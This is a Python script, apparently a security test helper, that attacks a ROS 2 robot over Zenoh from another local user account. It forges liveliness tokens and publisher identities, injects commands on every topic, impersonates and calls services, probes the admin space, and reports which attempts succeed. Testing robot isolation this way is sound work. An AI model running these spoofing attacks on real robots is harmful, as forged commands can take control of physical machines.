"""Another user of this machine, with Zenoh's own library: tries everything against a robot, and reports.

Arguments: user id, ports on which the robot accepts connections (with commas), domain, data key of a command
topic, key of a service, token to forge, and the gid that belongs to it. With a payload as the third and last
argument, it calls every service and publishes the payload on every topic that it finds. The library is loaded
first, because the other user may not be able to read it.
"""

import encodings.idna  # noqa: F401 (loaded before the user changes, as the next two are)
import json
import os
import queue  # noqa: F401
import sys
import threading  # noqa: F401
import time
from typing import Any

import xxhash
import zenoh
import zenoh.ext

user, ports, *wanted = sys.argv[1:]
os.setgroups([])
os.setresgid(int(user), int(user), int(user))
os.setresuid(int(user), int(user), int(user))


def session(mode: str, endpoint: str) -> Any:
    """A session of this user; a peer listens, so that others find it through the router."""
    config = zenoh.Config()
    values: dict[str, Any] = {
        "mode": mode,
        "connect/endpoints": [endpoint],
        "listen/endpoints": [] if mode == "client" else ["tcp/localhost:0"],
        "connect/exit_on_failure": False,
        "connect/timeout_ms": 5000,
        "scouting/multicast/enabled": False,
        "timestamping/enabled": True,
    }
    for key, value in values.items():
        config.insert_json5(key, json.dumps(value))
    return zenoh.open(config)


def attack(mode: str, endpoint: str) -> dict[str, Any]:
    """Watches, then tries to command with a forged identity, to serve and to call."""
    domain, topic_key, service_key, token, gid = (*wanted[:4], bytes.fromhex(wanted[4]))
    own = session(mode, endpoint)
    heard: list[str] = []
    tokens: list[str] = []
    keep = [
        own.declare_subscriber("**", lambda sample: heard.append(str(sample.key_expr))),
        own.liveliness().declare_subscriber(
            "@ros2_lv/**", lambda sample: tokens.append(str(sample.key_expr)), history=True
        ),
        own.liveliness().declare_token(token),
        own.declare_queryable(service_key, lambda query: query.reply(service_key, b"forged")),
        own.declare_queryable(f"{domain}/forged/**", lambda query: query.drop()),
    ]
    attachment = (1).to_bytes(8, "little") + time.time_ns().to_bytes(8, "little") + bytes([16]) + gid
    end_s = time.monotonic() + 60
    while not (heard and tokens) and time.monotonic() < end_s:
        time.sleep(0.02)
    for key in (topic_key, f"{domain}/**", "**"):
        own.put(key, f"forged by {mode}", attachment=attachment)
        own.delete(key, attachment=attachment)
    # the cache of a publisher for late subscribers, and a publisher with a cache of its own
    advanced = zenoh.ext.declare_advanced_publisher(
        own, topic_key, cache=zenoh.ext.CacheConfig(1), publisher_detection=True
    )
    advanced.put(f"forged by {mode}", attachment=attachment)
    replies = [
        reply.ok is not None
        for target in (zenoh.QueryTarget.ALL, zenoh.QueryTarget.ALL_COMPLETE)
        for reply in own.get(
            service_key,
            target=target,
            payload=b"forged",
            attachment=attachment,
            timeout=1.0,
            allowed_destination=zenoh.Locality.REMOTE,
        )
    ]
    administration = own.get("@/**", timeout=1.0, allowed_destination=zenoh.Locality.REMOTE)
    replies += [reply.ok is not None for reply in administration]
    time.sleep(0.2)
    report = {"heard": topic_key in heard, "saw": bool(tokens), "answers": replies.count(True)}
    del keep
    own.close()
    return report


def attack_everything(endpoint: str) -> dict[str, Any]:
    """Calls every service in the graph, and publishes on every topic with the identity of its publisher."""
    own = session("peer", endpoint)
    heard: list[str] = []
    tokens: set[str] = set()
    keep = [
        own.declare_subscriber("**", lambda sample: heard.append(str(sample.key_expr))),
        own.liveliness().declare_subscriber(
            "@ros2_lv/**", lambda sample: tokens.add(str(sample.key_expr)), history=True
        ),
    ]
    end_s = time.monotonic() + 60
    while not heard and time.monotonic() < end_s:
        time.sleep(0.02)
    time.sleep(1.0)  # the rest of the graph
    calls, answers, topics = 0, 0, 0
    for found in sorted(tokens):
        parts = [part.replace("%", "/").strip("/") for part in found.split("/")]
        if len(parts) < 13:
            continue
        domain, kind, (name, type_name, type_hash) = parts[1], parts[5], parts[9:12]
        key = f"{domain}/{name}/{type_name}/{type_hash}"
        gid = xxhash.xxh3_128_intdigest(found.encode()).to_bytes(16, "little")
        attachment = (1).to_bytes(8, "little") + time.time_ns().to_bytes(8, "little") + bytes([16]) + gid
        own.liveliness().declare_token(found)
        if kind in ("MP", "MS"):
            topics += 1
            own.put(key, bytes.fromhex(wanted[0]), attachment=attachment)
        elif kind == "SS":
            calls += 1
            replies = own.get(
                key,
                target=zenoh.QueryTarget.ALL,
                payload=b"\0\1\0\0" + bytes(64),
                attachment=attachment,
                timeout=0.3,
            )
            answers += sum(1 for _ in replies)
    del keep
    own.close()
    return {"topics": topics, "calls": calls, "answers": answers}


if len(wanted) > 1:
    reports = {
        f"{mode} {number}": attack(mode, f"tcp/127.0.0.1:{port}")
        for number, port in enumerate(ports.split(","))
        for mode in ("client", "peer", "router")
    }
else:
    reports = attack_everything(f"tcp/127.0.0.1:{ports}")
print(json.dumps(reports), flush=True)
sys.stdin.read()
